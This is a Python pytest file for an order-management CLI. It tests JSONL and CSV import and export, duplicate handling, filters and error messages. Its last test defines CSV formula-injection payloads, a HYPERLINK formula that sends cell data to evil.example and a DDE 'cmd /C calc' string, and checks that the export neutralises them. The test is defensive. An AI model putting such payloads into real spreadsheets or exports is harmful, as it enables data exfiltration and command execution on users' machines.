"""`orderhub orders import|export|list|show` on both databases."""

from __future__ import annotations

import csv
from collections.abc import Callable
from datetime import datetime
from pathlib import Path

import orjson
import pytest
from typer.testing import CliRunner

from orderhub.cli import app
from orderhub.domain.queries import OrderQuery
from orderhub.storage import migrate, stores
from orderhub.storage import orders as order_storage
from orderhub.storage.database import Database
from tests.helpers import sample_order

runner = CliRunner()


@pytest.fixture(params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def db(
    request: pytest.FixtureRequest,
    fresh_database_url: Callable[[str], str],
    monkeypatch: pytest.MonkeyPatch,
) -> Database:
    url = fresh_database_url(request.param)
    monkeypatch.setenv("ORDERHUB_DATABASE_URL", url)
    database = Database(url)
    migrate.upgrade(database)
    request.addfinalizer(database.dispose)
    return database


def new_store(db: Database, name: str = "S") -> int:
    with db.write() as conn:
        return stores.create_store(conn, name).store.id


def count(db: Database, store_id: int) -> int:
    with db.read() as conn:
        return order_storage.count_orders(conn, store_id, OrderQuery())


def write_jsonl(path: Path, orders: list[object], extra_lines: tuple[bytes, ...] = ()) -> Path:
    with path.open("wb") as f:
        for order in orders:
            f.write(orjson.dumps(order) + b"\n")
        for line in extra_lines:
            f.write(line + b"\n")
    return path


def test_import_reports_bad_lines_and_reruns_without_duplicates(
    db: Database, tmp_path: Path
) -> None:
    store_id = new_store(db)
    good = [sample_order(source_id=f"S{i}") for i in range(25)]
    no_source = sample_order()
    del no_source["source_id"]
    path = write_jsonl(
        tmp_path / "orders.jsonl",
        [*good, no_source],
        (b"{not json", orjson.dumps(sample_order(order_items=[])), b"[1,2]"),
    )
    result = runner.invoke(app, ["orders", "import", str(store_id), str(path), "--quiet"])
    assert result.exit_code == 2, result.output
    assert "imported 26, skipped 0 as duplicates, rejected 3" in result.output
    assert "line 27: malformed JSON" in result.output
    assert "line 28: order_items: an order needs at least one item" in result.output
    assert "line 29: expected a JSON object" in result.output
    assert count(db, store_id) == 26

    again = runner.invoke(app, ["orders", "import", str(store_id), str(path), "--quiet"])
    assert "imported 0, skipped 26 as duplicates, rejected 3" in again.output
    assert count(db, store_id) == 26


def test_imported_orders_match_the_api_rules(db: Database, tmp_path: Path) -> None:
    store_id = new_store(db)
    path = write_jsonl(tmp_path / "one.jsonl", [sample_order(source_id="X1", tax_total="1.20")])
    runner.invoke(app, ["orders", "import", str(store_id), str(path), "--quiet"])
    with db.read() as conn:
        ids = order_storage.search_order_ids(conn, store_id, OrderQuery(), limit=5, offset=0)
        order = order_storage.get_order(conn, store_id, ids[0])
    # 2 x 19.99 + 7.25 = 47.23; + 5.5 + 0.5 + 1.2
    assert str(order.product_total.normalize()) == "47.23"
    assert str(order.order_total.normalize()) == "54.43"
    assert order.customer["last_name"] == "Doe"
    assert order.history and order.history[0].note == "Order imported"


def test_export_csv_round_trips_into_another_store(db: Database, tmp_path: Path) -> None:
    source = new_store(db, "A")
    target = new_store(db, "B")
    orders = [sample_order(source_id=f"R{i}", email=f"r{i}@x.com") for i in range(5)]
    path = write_jsonl(tmp_path / "in.jsonl", orders)
    runner.invoke(app, ["orders", "import", str(source), str(path), "--quiet"])

    out = tmp_path / "out.csv"
    result = runner.invoke(
        app, ["orders", "export", str(source), "--format", "csv", "-o", str(out)]
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(out.open()))
    assert len(rows) == 10  # two items each
    assert {r["folder_name"] for r in rows} == {"Received"}

    result = runner.invoke(app, ["orders", "import", str(target), str(out), "--quiet"])
    assert "imported 5, skipped 0" in result.output, result.output
    with db.read() as conn:
        ids = order_storage.search_order_ids(conn, target, OrderQuery(), limit=10, offset=0)
        copied = order_storage.load_orders(conn, target, ids, with_history=False)
    assert sorted(o.source_id or "" for o in copied) == [f"R{i}" for i in range(5)]
    assert all(len(o.items) == 2 for o in copied)


def test_export_applies_filters(db: Database, tmp_path: Path) -> None:
    store_id = new_store(db)
    orders = [
        sample_order(source_id="old", date_added="2020-01-05 10:00:00"),
        sample_order(source_id="new", date_added="2024-06-01 10:00:00"),
    ]
    runner.invoke(
        app,
        [
            "orders",
            "import",
            str(store_id),
            str(write_jsonl(tmp_path / "f.jsonl", orders)),
            "--quiet",
        ],
    )
    out = tmp_path / "f.out.jsonl"
    runner.invoke(app, ["orders", "export", str(store_id), "--start", "2024-01-01", "-o", str(out)])
    exported = [orjson.loads(line) for line in out.read_bytes().splitlines()]
    assert [o["source_id"] for o in exported] == ["new"]


def test_folder_option_and_clear_errors(db: Database, tmp_path: Path) -> None:
    store_id = new_store(db)
    path = write_jsonl(tmp_path / "p.jsonl", [sample_order(source_id="P1")])
    result = runner.invoke(
        app, ["orders", "import", str(store_id), str(path), "--folder", "Paid", "--quiet"]
    )
    assert "imported 1" in result.output
    listed = runner.invoke(app, ["orders", "list", str(store_id), "--folder-name", "Paid"])
    assert "Paid" in listed.output and "P1" in listed.output
    with db.read() as conn:
        order_id = order_storage.find_by_source(conn, store_id, "API", "P1")
    shown = runner.invoke(app, ["orders", "show", str(store_id), str(order_id)])
    assert shown.exit_code == 0 and '"source_id": "P1"' in shown.output
    assert '"note": "Order imported"' in shown.output
    bad_folder = runner.invoke(
        app, ["orders", "import", str(store_id), str(path), "--folder", "Nope"]
    )
    assert bad_folder.exit_code == 1 and "no folder named 'Nope'" in bad_folder.output
    missing = runner.invoke(app, ["orders", "import", str(store_id), str(tmp_path / "x.jsonl")])
    assert missing.exit_code == 1 and "no such file" in missing.output
    unknown = runner.invoke(app, ["orders", "import", "999", str(path)])
    assert unknown.exit_code == 1 and "store 999 not found" in unknown.output


def test_imported_dates_are_stored_as_the_api_stores_them(db: Database, tmp_path: Path) -> None:
    """A date filter at an imported order's exact second finds it, as it finds an order
    created through the API: both paths write dates in the column type's own format."""
    store_id = new_store(db)
    on_the_second = "2024-06-01 10:00:00"
    path = write_jsonl(
        tmp_path / "d.jsonl", [sample_order(source_id="D1", date_added=on_the_second)]
    )
    runner.invoke(app, ["orders", "import", str(store_id), str(path), "--quiet"])
    moment = datetime(2024, 6, 1, 10, 0, 0)
    for query in (OrderQuery(added_from=moment), OrderQuery(added_to=moment)):
        with db.read() as conn:
            assert order_storage.count_orders(conn, store_id, query) == 1, query


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
HOSTILE_EMAIL = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_export_csv_neutralises_formulas_and_round_trips(db: Database, tmp_path: Path) -> None:
    source = new_store(db, "A")
    target = new_store(db, "B")
    shipping = {**sample_order()["shipping"], "first_name": HOSTILE_NAME, "company": "-2+3"}
    order = sample_order(source_id="F1", email=HOSTILE_EMAIL, shipping=shipping, handling_total=-5)
    runner.invoke(
        app,
        [
            "orders",
            "import",
            str(source),
            str(write_jsonl(tmp_path / "in.jsonl", [order])),
            "--quiet",
        ],
    )
    out = tmp_path / "out.csv"
    result = runner.invoke(
        app, ["orders", "export", str(source), "--format", "csv", "-o", str(out)]
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(out.open()))
    assert rows[0]["shipping_first_name"] == "'" + HOSTILE_NAME
    assert rows[0]["email"] == "'" + HOSTILE_EMAIL
    assert rows[0]["shipping_company"] == "'-2+3"
    assert rows[0]["handling_total"] == "-5"  # a number stays a number
    assert not any(
        cell.startswith(("=", "+", "-", "@"))
        for row in rows
        for k, cell in row.items()
        if k != "handling_total"
    )

    result = runner.invoke(app, ["orders", "import", str(target), str(out), "--quiet"])
    assert "imported 1, skipped 0" in result.output, result.output
    with db.read() as conn:
        ids = order_storage.search_order_ids(conn, target, OrderQuery(), limit=10, offset=0)
        (copied,) = order_storage.load_orders(conn, target, ids, with_history=False)
    assert copied.email == HOSTILE_EMAIL
    assert copied.shipping["first_name"] == HOSTILE_NAME
    assert copied.shipping["company"] == "-2+3"
